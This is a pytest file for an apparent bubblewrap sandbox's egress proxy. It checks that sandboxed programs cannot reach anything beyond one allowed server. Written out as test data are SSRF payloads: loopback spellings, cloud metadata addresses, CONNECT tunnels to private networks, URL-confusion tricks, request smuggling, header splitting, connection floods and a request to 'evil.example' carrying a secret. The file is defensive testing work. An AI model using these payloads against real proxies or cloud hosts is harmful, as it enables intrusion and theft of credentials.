"""Programs in a sandbox that may reach one server, and use its proxy to reach for everything else.

In a program, NAME and WEB are the host and port of that server and SILENT a port on which the host listens and nobody
may connect. `ask` sends bytes to the proxy and reads its answer. A program prints ESCAPED when an answer came that it
should not have had; the host sees by itself whether somebody connected, and what the server was asked.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from whet.sandboxes.bubblewrap.backend import BubblewrapSandbox
from whet.sandboxes.network.allow_list import NetworkUse
from whet.sandboxes.protocol import ExecResult

from .host import SPEC, Host, used

pytestmark = pytest.mark.usefixtures("bubblewrap")

PRELUDE = """
import socket
def ask(*parts):
    with socket.create_connection(("127.0.0.1", 3128), 5) as door:
        try:
            for part in parts: door.sendall(part if isinstance(part, bytes) else part.encode())
        except ConnectionError: pass
        answer = b""
        try:
            while data := door.recv(65536): answer += data
        except OSError: pass
    return answer
def get(url, *headers):
    return ask(f"GET {url} HTTP/1.1\\r\\n" + "".join(h + "\\r\\n" for h in headers or ["Host: NAME"]) + "\\r\\n")
def escaped_if(*answers):
    for answer in answers:
        print(answer[:60])
        if answer.split(b" ")[1:2] == [b"200"]: print("ESCAPED")
"""

REFUSED = {
    "asks for the host's loopback by its address": 'escaped_if(get("http://127.0.0.1:SILENT/"))',
    "asks for the host's loopback by its names": """
names = ["localhost", "localhost.", "LOCALHOST", "ip6-localhost", "localhost.localdomain", "host.docker.internal"]
escaped_if(*(get(f"http://{name}:SILENT/") for name in names))
""",
    "asks for the host's loopback in other spellings": """
spellings = "127.1 2130706433 0x7f000001 0177.0.0.1 127.0.0.1. 0 0.0.0.0 127.000.000.001 [::1] [::] %31%32%37.0.0.1 "
spellings += "[::ffff:7f00:1] [::127.0.0.1] [64:ff9b::127.0.0.1] [0:0:0:0:0:ffff:7f00:0001] [::ffff:127.0.0.1]"
escaped_if(*(get(f"http://{host}:SILENT/") for host in spellings.split()))
""",
    "asks for another port of the allowed name": 'escaped_if(get("http://NAME:SILENT/"), get("http://NAME/"))',
    "asks for the address behind the allowed name": 'escaped_if(get("http://127.0.0.1:WEB/"))',
    "asks for a metadata address": """
hosts = "169.254.169.254 [fd00:ec2::254] 100.100.100.200 168.63.129.16 metadata.google.internal 169.254.170.2"
escaped_if(*(get(f"http://{host}/latest/meta-data/") for host in hosts.split()))
""",
    "opens a tunnel to a metadata address": """
escaped_if(*(ask(f"CONNECT {host}:80 HTTP/1.1\\r\\nHost: NAME:WEB\\r\\n\\r\\n")
    for host in ("169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal")))
""",
    "opens a tunnel to the host's loopback": """
escaped_if(*(ask(f"CONNECT {host}:SILENT HTTP/1.1\\r\\nHost: NAME:WEB\\r\\n\\r\\n")
    for host in ("127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "NAME")))
""",
    "opens a tunnel to a private network": """
escaped_if(*(ask(f"CONNECT {host} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    for host in ("10.0.0.1:22", "192.168.1.1:80", "172.17.0.1:2375", "[fe80::1]:80", "[fc00::1]:80")))
""",
    "opens a tunnel to the proxy itself": """
escaped_if(ask("CONNECT 127.0.0.1:3128 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"), get("http://127.0.0.1:3128/"))
""",
    "hides another host behind a user": """
escaped_if(get("http://NAME:WEB@127.0.0.1:SILENT/"), get("http://NAME@127.0.0.1:SILENT/"), get("http://x@NAME:WEB/"))
""",
    "hides another host behind a fragment or a backslash": """
escaped_if(get("http://127.0.0.1:SILENT#@NAME:WEB/"), get("http://127.0.0.1:SILENT\\\\@NAME:WEB/"))
""",
    "hides another host behind bytes that are no text": r"""
escaped_if(*(ask(b"GET http://127.0.0.1:SILENT" + odd + b".NAME:WEB/ HTTP/1.1\r\nHost: x\r\n\r\n")
    for odd in (b"\0", b"%00", b"\t", b" ", b"\xff", b"\r", b"\n", b"%0d%0a", b"?", b"/")))
""",
    "names an allowed host in its header only": """
escaped_if(get("/", "Host: NAME:WEB"), get("http:///", "Host: NAME:WEB"), get("//NAME:WEB/"), get("NAME:WEB/"))
""",
    "asks for other schemes": """
schemes = "https ftp file gopher ws unix http+unix HTTPS"
escaped_if(*(get(f"{scheme}://NAME:WEB/etc/passwd") for scheme in schemes.split()))
""",
    "asks with two hosts": 'escaped_if(get("http://NAME:WEB/", "Host: a", "Host: b"))',
    "sends a body with two lengths": """
post = "POST http://NAME:WEB/ HTTP/1.1\\r\\nHost: x\\r\\n"
escaped_if(ask(post + "Content-Length: 3\\r\\nContent-Length: 30\\r\\n\\r\\nabc"),
    ask(post + "Content-Length: 3\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"),
    ask(post + "Transfer-Encoding: chunked, identity\\r\\n\\r\\n0\\r\\n\\r\\n"),
    ask(post + "Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n"),
    ask(post + "Content-Length: +3\\r\\n\\r\\nabc"), ask(post + "Content-Length: 0x3\\r\\n\\r\\nabc"))
""",
    "breaks a header in two": r"""
escaped_if(ask("GET http://NAME:WEB/ HTTP/1.1\r\nHost: x\r\nA: b\rHost: evil\r\n\r\n"),
    ask("GET http://NAME:WEB/ HTTP/1.1\r\nHost: x\r\nA\0: b\r\n\r\n"))
""",
    "asks in a language that is not HTTP": r"""
escaped_if(ask(bytes(range(256)) * 100), ask(b"\x05\x01\x00"), ask(b"\x04\x01\x00\x50\x7f\x00\x00\x01\x00"),
    ask("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ask("HELO\r\n\r\n"), ask("GET http://NAME:WEB/\r\n\r\n"))
""",
    "asks with a head of megabytes": 'escaped_if(ask("GET http://NAME:WEB/ HTTP/1.1\\r\\nX: " + "a" * (4 << 20)))',
    "looks for a way round the proxy": """
for family, address in ((2, ("127.0.0.1", SILENT)), (2, ("169.254.169.254", 80)), (10, ("::1", SILENT))):
    try: socket.socket(family).connect(address); print("ESCAPED")
    except OSError as error: print(error)
try: socket.getaddrinfo("NAME", 80); print("ESCAPED")
except OSError as error: print(error)
""",
    "takes the proxy's door": """
import os
for fd in range(3, 256):
    try: os.fstat(fd); print("ESCAPED", fd)
    except OSError: pass
for option in (socket.SO_REUSEADDR, 15):
    door = socket.socket()
    door.setsockopt(socket.SOL_SOCKET, option, 1)
    try: door.bind(("127.0.0.1", 3128)); door.listen(); print("ESCAPED")
    except OSError as error: print(error)
""",
}

HARMLESS = {
    "sends a chunk that is none": """
post = "POST http://NAME:WEB/page HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
for broken in ("-1\\r\\n", "3\\r\\nabcdef\\r\\n", "f" * 40 + "\\r\\n"): ask(post + broken)
""",
    "claims to be for another host": 'get("http://NAME:WEB/page", "Host: 127.0.0.1:SILENT")',
    "smuggles a second request behind the first": """
one = "GET http://NAME:WEB/page HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
ask(one + "GET http://127.0.0.1:SILENT/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" * 5)
post = "POST http://NAME:WEB/page HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\n\\r\\n"
ask(post + "bodyGET /smuggled HTTP/1.1\\r\\n\\r\\n")
""",
    "has its length dropped on the way": """
ask("POST http://NAME:WEB/page HTTP/1.1\\r\\nHost: x\\r\\nConnection: content-length\\r\\n"
    "Content-Length: 31\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nA: b\\r\\n\\r\\n")
""",
    "turns its connection into something else": """
get("http://NAME:WEB/page", "Host: x", "Upgrade: websocket", "Connection: Upgrade", "Proxy-Authorization: Basic eA==")
""",
    "is sent on to the host's loopback": """
import urllib.request, urllib.error
try: print("ESCAPED", urllib.request.urlopen("http://NAME:WEB/redirect").read())
except urllib.error.HTTPError as error: print(error.code, error.read())
""",
}


class Server(BaseHTTPRequestHandler):
    """The one server that may be reached. It would serve anything: what it was asked is what counts."""

    protocol_version = "HTTP/1.1"
    asked: list[str]
    silent: int

    def do_GET(self) -> None:
        length = int(self.headers.get("Content-Length", 0))
        self.asked.append(f"{self.path} {dict(self.headers)} {self.rfile.read(length)!r}")
        self.send_response(302 if self.path == "/redirect" else 200)
        self.send_header("Location", f"http://127.0.0.1:{self.silent}/")
        if self.path == "/endless":
            self.end_headers()
            while True:
                self.wfile.write(bytes(65536))
        self.send_header("Content-Length", "4")
        self.end_headers()
        self.wfile.write(b"page")

    do_POST = do_GET

    def log_message(self, *arguments: Any) -> None:
        return


@pytest.fixture
def web(host: Host) -> Iterator[ThreadingHTTPServer]:
    handler = type("Handler", (Server,), {"asked": [], "silent": host.port})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        server.handle_error = lambda *_: None  # type: ignore[method-assign]
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def ran(host: Host, web: ThreadingHTTPServer, program: str, **limits: Any) -> tuple[ExecResult, NetworkUse]:
    """Run it where web.test is the one server that may be reached, and see that nothing outside has changed."""
    port = web.server_address[1]
    spec = replace(SPEC, network=[f"web.test=127.0.0.1:{port}"], **limits)
    text = host.fill(PRELUDE + program, NAME="web.test", WEB=port, SILENT=host.port)

    async def use(sandbox: BubblewrapSandbox) -> tuple[ExecResult, NetworkUse]:
        result = await sandbox.exec(["python3", "-c", text])
        assert sandbox.network is not None
        return result, sandbox.network

    result, network = used(host, use, spec)
    assert "ESCAPED" not in result.stdout, result.stdout
    for mistake in ("SyntaxError", "NameError", "TypeError"):
        assert mistake not in result.stderr, result.stderr
    return result, network


@pytest.mark.parametrize("name", REFUSED)
def test_what_reaches_for_more_than_its_server_is_refused(host: Host, web: Any, name: str) -> None:
    _, network = ran(host, web, REFUSED[name])
    assert not [line for line in web.RequestHandlerClass.asked if "/ " in line or "smuggled" in line]
    if name not in ("looks for a way round the proxy", "takes the proxy's door"):
        assert network.refused + network.failed > 0


@pytest.mark.parametrize("name", HARMLESS)
def test_what_hides_something_in_an_allowed_request_reaches_nothing_but_its_server(
    host: Host, web: Any, name: str
) -> None:
    ran(host, web, HARMLESS[name])
    asked = web.RequestHandlerClass.asked
    assert asked
    for line in asked:
        assert line.startswith(("/page ", "/redirect "))
        assert f"'Host': 'web.test:{web.server_address[1]}'" in line
        for word in ("Upgrade", "Proxy-Authorization", "SILENT", f"127.0.0.1:{host.port}"):
            assert word not in line


def test_the_same_programs_would_notice_an_escape(host: Host, web: Any) -> None:
    """An allowed request comes back with 200, and a connection to the silent port is seen."""
    with pytest.raises(AssertionError, match="ESCAPED"):
        ran(host, web, 'escaped_if(get("http://NAME:WEB/page"))')
    before = host.state()
    socket.create_connection(("127.0.0.1", host.port)).close()
    assert host.changes(before)


FLOOD = """
doors = []
for number in range(3000):
    door = socket.socket(); door.setblocking(False)
    try: door.connect_ex(("127.0.0.1", 3128)); doors.append(door)
    except OSError: pass
    if len(doors) > 500: doors.pop(0).close()
for door in doors: door.close()
import time
while b"page" not in get("http://NAME:WEB/page"): time.sleep(0.01)
print("still there")
"""


def test_thousands_of_connections_cost_the_host_a_few(host: Host, web: Any) -> None:
    result, _ = ran(host, web, FLOOD)
    assert result.stdout.endswith("still there\n")


DRIP = """
doors = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(40)]
for _ in range(20):
    for door in doors:
        try: door.send(b"G")
        except OSError: pass
print("dripped")
"""


def test_connections_that_drip_end_with_their_sandbox(host: Host, web: Any) -> None:
    result, _ = ran(host, web, DRIP, network_connections=4)
    assert result.stdout == "dripped\n"


def test_an_endless_answer_ends_at_the_limit_of_bytes(host: Host, web: Any) -> None:
    program = 'print(len(get("http://NAME:WEB/endless"))); escaped_if(get("http://NAME:WEB/page"))'
    result, network = ran(host, web, program, network_bytes=1 << 20)
    assert int(result.stdout.split()[0]) <= 1 << 20
    assert network.refusals[-1].reason == "this sandbox has used up its network_bytes of 1048576"


def test_refusals_are_seen_by_the_host(host: Host, web: Any) -> None:
    _, network = ran(host, web, 'get("http://evil.example/path?secret")')
    assert (network.refused, network.requests) == (1, 0)
    assert network.refusals[0].target == "http://evil.example/path?secret"
